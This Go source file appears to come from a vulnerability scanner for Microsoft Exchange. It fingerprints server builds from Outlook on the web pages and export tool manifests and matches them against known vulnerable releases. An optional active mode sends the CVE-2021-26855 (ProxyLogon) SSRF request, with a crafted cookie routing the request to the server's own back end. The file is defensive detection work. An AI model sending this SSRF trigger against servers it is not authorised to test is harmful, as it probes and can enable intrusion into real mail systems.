package probe

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/exhunt/exhunt/builds"
)

// Options of a probe.
type Options struct {
	// Active adds the CVE-2021-26855 request: an exploitation attempt,
	// harmless, that the target logs.
	Active bool
	// Insecure accepts certificates that do not verify (self-signed,
	// internal CAs): the answers may then come from anyone on the path.
	Insecure bool
	// Timeout bounds the whole check of one target.
	Timeout time.Duration
	// UserAgent names the tool to the target's administrators.
	UserAgent string
	// Table is the build knowledge (builds.MustBuiltin when nil).
	Table *builds.Table
}

// Result is what one target showed, in the contract's JSON.
type Result struct {
	Target   string `json:"target"`
	Exchange bool   `json:"exchange"`
	Build    string `json:"build,omitempty"`
	// BuildSource says where the build was read; BuildPrecision is
	// "exact" (four parts: the update level) or "cu" (three parts).
	BuildSource    string   `json:"build_source,omitempty"`
	BuildPrecision string   `json:"build_precision,omitempty"`
	Vulnerable     string   `json:"vulnerable"`
	CVEs           []string `json:"cves"`
	// Evidence are the facts the answer rests on, in words.
	Evidence []string `json:"evidence"`
	// Error is why the target could not be checked.
	Error string `json:"error,omitempty"`
}

// maxBody bounds what is read of a response: a logon page is tens of KB.
const maxBody = 1 << 20

// maxHeaders bounds a response's header.
const maxHeaders = 64 << 10

// The requests and what is looked for in the answers.
const (
	pathLogon      = "/owa/auth/logon.aspx"
	pathExportTool = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"
	pathSSRF       = "/owa/auth/x.js"
	pathService    = "/owa/service"
	// cookieSSRF asks the front end to route the request to its own back
	// end (localhost): a vulnerable front end says so in
	// X-CalculatedBETarget.
	cookieSSRF = "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;"
)

var (
	// The logon page's resource paths: /owa/auth/15.1.2176/themes/...
	// (Exchange 2013 and later, CU level), /owa/14.3.513.0/ (2010).
	logonBuildRE = regexp.MustCompile(`/owa/(?:auth/)?(1[45]\.\d{1,2}\.\d{1,5}(?:\.\d{1,5})?)/`)
	exportToolRE = regexp.MustCompile(`name="microsoft\.exchange\.ediscovery\.exporttool(?:\.application)?"[^>]*?\sversion="(\d{1,2}\.\d{1,2}\.\d{1,5}\.\d{1,5})"`)
	owaMarkers   = []string{"IsOwaPremiumBrowser", "To use Outlook, browser settings must allow scripts to run", "/owa/auth/"}
)

// NewClient is the HTTP client of a probe: no cookies kept, redirects left
// to the probe (it follows them only on the target's own host), TLS
// verified unless Insecure.
func NewClient(opt Options) *http.Client {
	tr := &http.Transport{
		Proxy:       nil,
		DialContext: (&net.Dialer{Timeout: opt.Timeout}).DialContext,
		TLSClientConfig: &tls.Config{
			InsecureSkipVerify: opt.Insecure, //nolint:gosec // only when the user asks
			// Classic key exchanges only: a post-quantum key share costs
			// more than the rest of the handshake, per target, to protect
			// nothing secret (a logon page, a version header).
			CurvePreferences: []tls.CurveID{tls.X25519, tls.CurveP256, tls.CurveP384},
		},
		TLSHandshakeTimeout:   opt.Timeout,
		ResponseHeaderTimeout: opt.Timeout,
		// A hostile target's headers would otherwise take 10 MB per
		// target under way; Exchange's are a few KB.
		MaxResponseHeaderBytes: maxHeaders,
		MaxIdleConnsPerHost:    2,
		IdleConnTimeout:        5 * time.Second,
	}
	return &http.Client{Transport: tr, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

// response is what a request brought back.
type response struct {
	status int
	header http.Header
	body   string
}

// Check probes one target.
func Check(ctx context.Context, client *http.Client, t Target, opt Options) Result {
	if opt.Table == nil {
		opt.Table = builds.MustBuiltin()
	}
	if opt.Timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, opt.Timeout)
		defer cancel()
	}
	r := Result{Target: t.String(), Vulnerable: VulnerableUnknown, CVEs: []string{}, Evidence: []string{}}
	say := func(format string, a ...any) { r.Evidence = append(r.Evidence, fmt.Sprintf(format, a...)) }

	logon, err := get(ctx, client, t, pathLogon, "", opt, say)
	if err != nil {
		r.Error = describe(ctx, err, opt)
		return r
	}
	var build builds.Version
	haveBuild := false
	take := func(s, source string) bool {
		v, err := builds.Parse(s)
		if err != nil || v.Major < 14 || v.Major > 15 {
			return false
		}
		build, haveBuild, r.BuildSource = v, true, source
		return true
	}
	if h := logon.header.Get("X-OWA-Version"); h != "" {
		r.Exchange = true
		if take(h, "X-OWA-Version header") {
			say("%s answered with X-OWA-Version: %s", pathLogon, h)
		}
	}
	for _, m := range owaMarkers {
		if logon.status == http.StatusOK && strings.Contains(logon.body, m) {
			r.Exchange = true
			say("%s is Outlook on the web's logon page (status %d)", pathLogon, logon.status)
			break
		}
	}
	if !r.Exchange {
		if logon.status >= 300 && logon.status < 400 {
			// Sent elsewhere (a federated logon): what is behind was
			// not looked at.
			return r
		}
		say("%s answered status %d without Outlook on the web's logon page", pathLogon, logon.status)
		r.Vulnerable = VulnerableNo
		return r
	}
	if !haveBuild || build.Revision < 0 {
		// OWA's service endpoint names the build even where the logon
		// page does not.
		if svc, err := get(ctx, client, t, pathService, "", opt, nil); err == nil {
			if h := svc.header.Get("X-OWA-Version"); h != "" && take(h, "X-OWA-Version header") {
				say("%s answered with X-OWA-Version: %s", pathService, h)
			}
		}
	}
	if !haveBuild || build.Revision < 0 {
		if tool, err := get(ctx, client, t, pathExportTool, "", opt, say); err == nil && tool.status == http.StatusOK {
			if m := exportToolRE.FindStringSubmatch(tool.body); m != nil && take(m[1], "export tool manifest") {
				say("the export tool manifest names version %s", m[1])
			}
		}
	}
	if !haveBuild {
		if m := logonBuildRE.FindStringSubmatch(logon.body); m != nil && take(m[1], "logon page resource path") {
			say("the logon page loads its resources from a folder named %s", m[1])
		}
	}
	if haveBuild && build.Revision < 0 {
		if v, ok := buildFolder(ctx, client, t, opt, build, say); ok {
			build, r.BuildSource = v, "export tool folder"
		}
	}
	if haveBuild {
		e := assess(opt.Table, build)
		r.Build, r.Vulnerable, r.CVEs = build.String(), e.Vulnerable, append(r.CVEs, e.CVEs...)
		r.BuildPrecision = "cu"
		if e.Exact {
			r.BuildPrecision = "exact"
		}
		say("%s", e.What)
	} else {
		say("no build could be read")
	}
	if opt.Active {
		active(ctx, client, t, opt, &r, say)
	}
	return r
}

// buildFolder looks for the update installed on a CU-level build: the ECP
// keeps a folder per build installed (/ecp/15.1.2176.9/), so the export
// tool manifest is asked for in each build of the CU the table knows,
// newest first. A server that answers for a folder no build has says
// nothing this way.
func buildFolder(ctx context.Context, client *http.Client, t Target, opt Options, cu builds.Version, say func(string, ...any)) (builds.Version, bool) {
	var candidates []builds.Version
	for _, r := range opt.Table.Releases {
		if r.Version.SameCU(cu) && r.Version.Revision >= 0 && !slices.Contains(candidates, r.Version) {
			candidates = append(candidates, r.Version)
		}
	}
	if len(candidates) == 0 {
		return builds.Version{}, false
	}
	slices.SortFunc(candidates, func(a, b builds.Version) int { return b.Compare(a) })
	manifest := func(folder builds.Version) (builds.Version, bool) {
		resp, err := get(ctx, client, t, folderExportTool(folder), "", opt, nil)
		if err != nil || resp.status != http.StatusOK {
			return builds.Version{}, false
		}
		m := exportToolRE.FindStringSubmatch(resp.body)
		if m == nil {
			return builds.Version{}, false
		}
		v, err := builds.Parse(m[1])
		return v, err == nil && v.SameCU(cu)
	}
	nowhere := builds.Version{Major: cu.Major, Minor: cu.Minor, Build: cu.Build, Revision: 65000}
	if _, ok := manifest(nowhere); ok {
		say("%s answers with a manifest although no such build exists: the export tool folders tell nothing here", folderExportTool(nowhere))
		return builds.Version{}, false
	}
	for _, c := range candidates {
		if v, ok := manifest(c); ok {
			say("%s answers with the export tool manifest of %s, the newest build of %s with a folder on this server", folderExportTool(c), v, cu)
			return v, true
		}
		if ctx.Err() != nil {
			say("the search of the export tool folders was cut short by --timeout")
			return builds.Version{}, false
		}
	}
	say("none of the %d builds of %s that exhunt knows has an export tool folder on this server", len(candidates), cu)
	return builds.Version{}, false
}

// folderExportTool is the export tool manifest's path in one build's ECP
// folder.
func folderExportTool(v builds.Version) string {
	return "/ecp/" + v.String() + "/exporttool/microsoft.exchange.ediscovery.exporttool.application"
}

// active sends the CVE-2021-26855 request and folds its answer in.
func active(ctx context.Context, client *http.Client, t Target, opt Options, r *Result, say func(string, ...any)) {
	resp, err := get(ctx, client, t, pathSSRF, cookieSSRF, opt, nil)
	const cve = "CVE-2021-26855"
	switch {
	case err != nil && ctx.Err() == nil && dropped(err):
		// IIS URL Rewrite's abort (Microsoft's mitigation) drops the
		// connection without an answer.
		say("the CVE-2021-26855 request got no answer (%v): the connection was dropped, as Microsoft's URL Rewrite mitigation does", err)
		r.CVEs = slices.DeleteFunc(r.CVEs, func(c string) bool { return c == cve })
		if r.Vulnerable == VulnerableYes && len(r.CVEs) == 0 {
			r.Vulnerable = VulnerableNo
		}
	case err != nil && ctx.Err() != nil:
		say("the CVE-2021-26855 request got no answer: %s", describe(ctx, err, opt))
	case err != nil:
		say("the CVE-2021-26855 request failed: %v", err)
	case strings.Contains(strings.ToLower(resp.header.Get("X-CalculatedBETarget")), "localhost"):
		say("the CVE-2021-26855 request was routed to the server's own back end (X-CalculatedBETarget: %s, status %d): VULNERABLE", resp.header.Get("X-CalculatedBETarget"), resp.status)
		if !slices.Contains(r.CVEs, cve) {
			r.CVEs = append(r.CVEs, cve)
		}
		r.Vulnerable = VulnerableYes
	default:
		say("the CVE-2021-26855 request was not routed to the back end (status %d): not exploitable now", resp.status)
		r.CVEs = slices.DeleteFunc(r.CVEs, func(c string) bool { return c == cve })
		if r.Vulnerable == VulnerableYes && len(r.CVEs) == 0 {
			r.Vulnerable = VulnerableNo
		}
	}
}

// describe words why a target could not be checked, with what to do
// where the user can do something.
func describe(ctx context.Context, err error, opt Options) string {
	var unknownAuthority x509.UnknownAuthorityError
	var hostname x509.HostnameError
	var invalid x509.CertificateInvalidError
	var dns *net.DNSError
	switch {
	case errors.Is(ctx.Err(), context.Canceled):
		return "interrupted before an answer"
	case ctx.Err() != nil && opt.Timeout > 0:
		return fmt.Sprintf("no answer within %s (--timeout)", opt.Timeout)
	case errors.As(err, &unknownAuthority), errors.As(err, &hostname), errors.As(err, &invalid):
		return fmt.Sprintf("%v (--insecure accepts it, and anyone on the path could then answer)", err)
	case errors.As(err, &dns) && dns.IsNotFound:
		return fmt.Sprintf("the name %s is not known to DNS (%v)", dns.Name, err)
	case refused(err):
		return fmt.Sprintf("connection refused: nothing listens there (%v)", err)
	case dropped(err):
		return fmt.Sprintf("the connection was closed without an answer (%v)", err)
	}
	return err.Error()
}

// dropped reports whether the server ended the connection without an
// answer: closed or reset.
func dropped(err error) bool {
	return errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) || slices.ContainsFunc(resetErrnos, func(e syscall.Errno) bool { return errors.Is(err, e) })
}

// refused reports whether nothing listens at the target's port.
func refused(err error) bool {
	return slices.ContainsFunc(refusedErrnos, func(e syscall.Errno) bool { return errors.Is(err, e) })
}

// maxRedirects bounds the redirects followed on the target's own host.
const maxRedirects = 5

// get requests a path of the target, following redirects that stay on its
// host (another host is never contacted: it was not listed).
func get(ctx context.Context, client *http.Client, t Target, path, cookie string, opt Options, say func(string, ...any)) (*response, error) {
	u := t.URL(path)
	for hop := 0; ; hop++ {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
		if err != nil {
			return nil, err
		}
		req.Header.Set("User-Agent", opt.UserAgent)
		if cookie != "" {
			req.Header.Set("Cookie", cookie)
		}
		resp, err := client.Do(req)
		if err != nil {
			return nil, err
		}
		body, err := io.ReadAll(io.LimitReader(resp.Body, maxBody))
		resp.Body.Close()
		if err != nil {
			return nil, err
		}
		out := &response{status: resp.StatusCode, header: resp.Header, body: string(body)}
		loc := resp.Header.Get("Location")
		if resp.StatusCode < 300 || resp.StatusCode >= 400 || loc == "" || cookie != "" {
			return out, nil
		}
		next, err := url.Parse(u)
		if err == nil {
			next, err = next.Parse(loc)
		}
		if err != nil || (next.Scheme != "http" && next.Scheme != "https") {
			return out, nil
		}
		if !strings.EqualFold(next.Hostname(), t.Host) {
			if say != nil {
				say("%s redirects to %s (not followed: another host)", path, next.Redacted())
			}
			return out, nil
		}
		if hop == maxRedirects {
			return nil, errors.New("too many redirects")
		}
		u = next.String()
	}
}

// Run checks every target, at most concurrency at once, calling done with
// each result as it comes (from one goroutine at a time) and with its
// target's index. Memory grows with concurrency, not with the targets.
// Once ctx ends no target is started; those under way end with its error.
func Run(ctx context.Context, targets []Target, opt Options, concurrency int, done func(int, Result)) {
	concurrency = max(1, min(concurrency, len(targets)))
	type indexed struct {
		i int
		r Result
	}
	work := make(chan int)
	results := make(chan indexed)
	var wg sync.WaitGroup
	for range concurrency {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range work {
				// A client per target: its connections (a target's
				// requests reuse one) close with its check, so memory
				// follows the concurrency, not the targets done.
				client := NewClient(opt)
				r := Check(ctx, client, targets[i], opt)
				client.CloseIdleConnections()
				results <- indexed{i, r}
			}
		}()
	}
	go func() {
		defer close(work)
		for i := range targets {
			select {
			case work <- i:
			case <-ctx.Done():
				return
			}
		}
	}()
	go func() {
		wg.Wait()
		close(results)
	}()
	for x := range results {
		done(x.i, x.r)
	}
}
